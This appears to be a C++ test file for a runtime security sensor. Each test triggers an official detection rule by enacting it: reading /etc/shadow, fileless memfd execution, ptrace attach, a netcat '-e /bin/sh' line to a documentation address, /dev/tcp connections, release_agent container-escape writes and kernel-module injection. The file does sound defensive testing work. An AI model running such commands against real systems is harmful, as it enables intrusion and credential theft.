// SPDX-License-Identifier: Apache-2.0
//
// The official rules, each set off by a real act on this kernel.
//
// An act "in a container" is one of a process in a control group whose path is
// that of a container: what the sensor knows a container by.

#include <arpa/inet.h>
#include <fcntl.h>
#include <gtest/gtest.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <functional>
#include <set>
#include <string>
#include <vector>

#include "absl/strings/str_cat.h"
#include <nlohmann/json.hpp>

#include "common/testing/status_matchers.h"
#include "tests/testing/bpf_support.h"
#include "tests/testing/cluster.h"

namespace eyrie::testing {
namespace {

using Json = nlohmann::json;

constexpr char kContainer[] =
    "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

// The folders of a container's control group, one in each hierarchy there is.
std::vector<std::string> ContainerCgroups() {
  std::vector<std::string> folders;
  for (const char* root :
       {"/sys/fs/cgroup/unified", "/sys/fs/cgroup/pids", "/sys/fs/cgroup"}) {
    if (access(absl::StrCat(root, "/cgroup.procs").c_str(), F_OK) == 0) {
      folders.push_back(absl::StrCat(root, "/docker/", kContainer));
    }
  }
  return folders;
}

// Runs `body` in a child; expects that it returns 0.
pid_t InChild(const std::function<int()>& body) {
  const pid_t child = fork();
  if (child == 0) _exit(body());
  int status = 0;
  waitpid(child, &status, 0);
  EXPECT_EQ(status, 0) << "wait status of the act";
  return child;
}

// The same in a container's control group.
void InContainer(const std::function<int()>& body) {
  InChild([&] {
    for (const std::string& folder : ContainerCgroups()) {
      std::ofstream(folder + "/cgroup.procs") << "0\n";
    }
    return body();
  });
}

// Becomes a program.
int Become(std::vector<std::string> argv) {
  std::vector<char*> pointers;
  for (std::string& word : argv) pointers.push_back(word.data());
  pointers.push_back(nullptr);
  execv(argv[0].c_str(), pointers.data());
  return 127;
}

class OfficialRulesTest : public ::testing::Test {
 protected:
  void SetUp() override {
    if (const std::string reason = WhyNoBpf(); !reason.empty()) {
      GTEST_SKIP() << "EYRIE_SKIP: " << reason;
    }
    const char* shared = std::getenv("EYRIE_SHARED_DIR");
    if (shared == nullptr) {
      GTEST_SKIP() << "EYRIE_NO_SHARED: the official rules, data/rules";
    }
    directory_ = absl::StrCat(TestDirectory(), "/official-", getpid());
    std::filesystem::create_directories(directory_);
    for (const std::string& folder : ContainerCgroups()) {
      std::filesystem::create_directories(folder);
    }
    ClusterOptions options;
    options.rules = {absl::StrCat(shared, "/data/rules/falco_rules.yaml")};
    options.directory = directory_;
    cluster_ = std::make_unique<Cluster>(std::move(options));
    ASSERT_OK(cluster_->StartServer());
    ASSERT_OK(cluster_->StartCollector());
    ASSERT_OK(cluster_->WaitForNode());
  }
  void TearDown() override {
    cluster_.reset();
    std::filesystem::remove_all(directory_);
    for (const std::string& folder : ContainerCgroups()) {
      rmdir(folder.c_str());
      rmdir(std::filesystem::path(folder).parent_path().c_str());
    }
  }

  std::string Path(const std::string& name) { return directory_ + "/" + name; }

  // A copy of a program under another name.
  std::string Program(const std::string& name, const std::string& original) {
    const std::string path = Path(name);
    std::filesystem::copy_file(
        original, path, std::filesystem::copy_options::overwrite_existing);
    return path;
  }

  // Expects that the rule has fired, with this priority, and that every output
  // field has a value but those that cannot.
  Json Expect(const std::string& rule, const std::string& priority) {
    SCOPED_TRACE(rule);
    auto lines = cluster_->WaitForDetections(rule, 1, absl::Seconds(10));
    EXPECT_OK(lines.status());
    if (!lines.ok()) return Json();
    Json detection = Json::parse(lines->front());
    EXPECT_EQ(detection["priority"], priority);
    static const std::set<std::string> may_be_absent = {
        // Few ancestors in a test sandbox; exec has no descriptor; metadata of
        // the container's image needs a container engine.
        "proc.aname[2]", "proc.aname[3]", "proc.aname[4]", "proc.aname[5]",
        "proc.aname[6]", "proc.aname[7]", "proc.aexepath[2]",
        "proc.aexepath[3]", "proc.aexepath[4]", "fd.name",
        "container.image.repository", "container.image.tag", "container.name",
        "k8s.ns.name", "k8s.pod.name", "container.start_ts",
        // Of a packet socket; of a program that is newer than its process.
        "fd.lport", "fd.rport", "proc.exe_ino.ctime_duration_proc_start"};
    for (const auto& [name, value] : detection["output_fields"].items()) {
      if (may_be_absent.contains(name)) continue;
      EXPECT_FALSE(value.is_null()) << name << " in " << detection.dump(2);
    }
    return detection;
  }

  std::string directory_;
  std::unique_ptr<Cluster> cluster_;
};

void Act(std::vector<std::string> argv) {
  ASSERT_OK(testing::Run(std::move(argv)));
}

TEST_F(OfficialRulesTest, FilesAndLinks) {
  Act({"/usr/bin/cat", "/etc/shadow"});
  Expect("Read sensitive file untrusted", "Warning");

  Act({"/usr/bin/cat", "/var/log/../../etc/../etc/passwd"});
  Expect("Directory traversal monitored file read", "Warning");

  const std::string log = Path("auth.log");
  InChild([&] {
    return open(log.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600) < 0;
  });
  Json detection = Expect("Clear Log Activities", "Warning");
  EXPECT_EQ(detection["output_fields"]["fd.name"], log);

  Act({"/usr/bin/ln", "-s", "/etc/shadow", Path("link")});
  Expect("Create Symlink Over Sensitive Files", "Warning");
  InChild([&] {
    (void)!link("/etc/shadow", Path("hard").c_str());
    return 0;
  });
  Expect("Create Hardlink Over Sensitive Files", "Warning");
}

// The same act by other system calls fires the rule, too; a near miss does not.
TEST_F(OfficialRulesTest, OtherCallsThatDoTheSame) {
  const auto count_after = [&](const std::function<int()>& act,
                               const std::string& rule, size_t expected) {
    InChild(act);
    auto lines = cluster_->WaitForDetections(rule, expected, absl::Seconds(10));
    EXPECT_OK(lines.status());
    if (lines.ok()) {
      EXPECT_EQ(lines->size(), expected) << rule;
    }
  };
  const std::string read = "Read sensitive file untrusted";
  count_after([] { return syscall(SYS_open, "/etc/shadow", O_RDONLY) < 0; },
              read, 1);
  count_after(
      [] { return syscall(SYS_openat, AT_FDCWD, "/etc/shadow", O_RDONLY) < 0; },
      read, 2);
  count_after(
      [] {
        uint64_t how[3] = {O_RDONLY, 0, 0};
        return syscall(SYS_openat2, AT_FDCWD, "/etc/shadow", how, sizeof(how)) <
               0;
      },
      read, 3);
  // By a symbolic link, from a changed directory, and from a changed root.
  count_after(
      [&] {
        return symlink("/etc/shadow", Path("s").c_str()) != 0 ||
               open(Path("s").c_str(), O_RDONLY) < 0;
      },
      read, 4);
  count_after([] { return chdir("/etc") != 0 || open("shadow", O_RDONLY) < 0; },
              read, 5);
  count_after(
      [] { return chroot("/etc") != 0 || open("/shadow", O_RDONLY) < 0; }, read,
      6);
  // Near misses: another file, and writing instead of reading.
  InChild([] {
    return open("/etc/hostname", O_RDONLY) < 0 ||
           open("/etc/shadow", O_WRONLY | O_APPEND) < 0;
  });
  count_after([] { return open("/etc/shadow", O_RDONLY) < 0; }, read, 7);
}

TEST_F(OfficialRulesTest, Programs) {
  Act({Program("nginx", "/bin/bash"), "-c", "sh -c 'id'; true"});
  Expect("Run shell untrusted", "Notice");

  Act({Program("sshd", "/bin/bash"), "-c",
       "setpriv --reuid daemon --clear-groups id; true"});
  Expect("System user interactive", "Informational");

  Act({"/usr/bin/find", "/nonexistent", "-name", "id_rsa"});
  Expect("Search Private Keys or Passwords", "Warning");
  Act({"/usr/bin/find", "/nonexistent", "-path", "/root/.aws/credentials"});
  Expect("Find AWS Credentials", "Warning");
  Act({"/usr/bin/shred", "--version"});
  Expect("Remove Bulk Data from Disk", "Warning");

  const std::string program = absl::StrCat("/dev/shm/eyrie-rules-", getpid());
  std::filesystem::copy_file("/bin/true", program);
  Act({program, "--version"});
  std::filesystem::remove(program);
  Expect("Execution from /dev/shm", "Warning");

  InChild([] {
    const int fd = static_cast<int>(syscall(SYS_memfd_create, "x", 0));
    std::ifstream source("/bin/true", std::ios::binary);
    const std::string image(std::istreambuf_iterator<char>(source), {});
    if (write(fd, image.data(), image.size()) !=
        static_cast<ssize_t>(image.size())) {
      return 1;
    }
    char name[] = "true";
    char* argv[] = {name, nullptr};
    char* environment[] = {nullptr};
    return static_cast<int>(
        syscall(SYS_execveat, fd, "", argv, environment, AT_EMPTY_PATH));
  });
  Expect("Fileless execution via memfd_create", "Critical");
}

TEST_F(OfficialRulesTest, ServerThatReadsSecretsLongAfterItsStart) {
  Act({Program("nginx", "/bin/bash"), "-c",
       "sleep 6; read line < /etc/shadow; true"});
  Expect("Read sensitive file trusted after startup", "Warning");
}

TEST_F(OfficialRulesTest, Tracing) {
  InChild([] { return ptrace(PTRACE_TRACEME, 0, nullptr, nullptr) != 0; });
  Expect("PTRACE anti-debug attempt", "Notice");
  InChild([] {
    const pid_t victim = fork();
    if (victim == 0) {
      pause();
      _exit(0);
    }
    const bool is_attached =
        ptrace(PTRACE_ATTACH, victim, nullptr, nullptr) == 0;
    kill(victim, SIGKILL);
    waitpid(victim, nullptr, 0);
    return is_attached ? 0 : 1;
  });
  Expect("PTRACE attached to process", "Warning");
}

// An address of documentation (RFC 5737), at home on the loopback interface of
// a network namespace of its own.
TEST_F(OfficialRulesTest, SshToAnotherPort) {
  const std::string ssh = Program("ssh", "/bin/bash");
  InChild([&] {
    if (unshare(CLONE_NEWNET) != 0) return 1;
    const int control = socket(AF_INET, SOCK_DGRAM, 0);
    ifreq request = {};
    std::strcpy(request.ifr_name, "lo");
    auto* own = reinterpret_cast<sockaddr_in*>(&request.ifr_addr);
    own->sin_family = AF_INET;
    inet_pton(AF_INET, "203.0.113.1", &own->sin_addr);
    if (ioctl(control, SIOCSIFADDR, &request) != 0) return 2;
    request.ifr_flags = IFF_UP;
    if (ioctl(control, SIOCSIFFLAGS, &request) != 0) return 3;
    const int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in address = {};
    address.sin_family = AF_INET;
    address.sin_port = htons(443);
    inet_pton(AF_INET, "203.0.113.1", &address.sin_addr);
    if (bind(listener, reinterpret_cast<sockaddr*>(&address),
             sizeof(address)) != 0 ||
        listen(listener, 1) != 0) {
      return 4;
    }
    const pid_t child = fork();
    if (child == 0) {
      _exit(Become({ssh, "-c", "exec 3<>/dev/tcp/203.0.113.1/443"}));
    }
    int status = 0;
    waitpid(child, &status, 0);
    return status == 0 ? 0 : 5;
  });
  const Json detection =
      Expect("Disallowed SSH Connection Non Standard Port", "Notice");
  EXPECT_EQ(detection["output_fields"]["fd.rport"], 443);
}

TEST_F(OfficialRulesTest, InContainersPrograms) {
  const std::string nc = Program("nc", "/bin/true");
  InContainer([&] {
    return Become({nc, "-e", "/bin/sh", "203.0.113.1", "4"});
  });
  Expect("Netcat Remote Code Execution in Container", "Warning");

  const std::string runc = Program("runc", "/bin/bash");
  InContainer([&] {
    return Become({"/usr/bin/script", "-q", "-c", runc + " -c 'sh -c id; true'",
                   "/dev/null"});
  });
  Expect("Terminal shell in container", "Notice");
}

TEST_F(OfficialRulesTest, InContainersNewPrograms) {
  for (const char* folder : {"lower", "upper", "work", "merged"}) {
    std::filesystem::create_directories(Path(folder));
  }
  InContainer([&] {
    const std::string options =
        absl::StrCat("lowerdir=", Path("lower"), ",upperdir=", Path("upper"),
                     ",workdir=", Path("work"));
    // overlayfs does not lie on overlayfs: the layers get a file system.
    if (unshare(CLONE_NEWNS) != 0 ||
        mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) != 0 ||
        mount("overlay", Path("merged").c_str(), "overlay", 0,
              options.c_str()) != 0) {
      return 1;
    }
    const std::string program = Path("merged/dropped");
    std::filesystem::copy_file("/bin/true", program);
    return Become({program});
  });
  Expect("Drop and execute new binary in container", "Critical");
}

TEST_F(OfficialRulesTest, InContainersCalls) {
  const auto run = [](const std::string& script) {
    InContainer([&] { return Become({"/usr/bin/python3", "-c", script}); });
  };
  run("import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)");
  Expect("Packet socket created in container", "Notice");

  run(absl::StrCat("open('", Path("release_agent"), "', 'w')"));
  Expect("Detect release_agent File Container Escapes", "Critical");

  // What is no module is refused.
  run(absl::StrCat("import ctypes; ctypes.CDLL(None).syscall(", SYS_init_module,
                   ", b'none', 4, b'')"));
  Expect("Linux Kernel Module Injection Detected", "Warning");

  run("import os, socket\n"
      "server = socket.create_server(('127.0.0.1', 0))\n"
      "client = socket.create_connection(server.getsockname())\n"
      "os.dup2(client.fileno(), 1)\n");
  Expect("Redirect STDOUT/STDIN to Network Connection in Container", "Notice");
}

}  // namespace
}  // namespace eyrie::testing
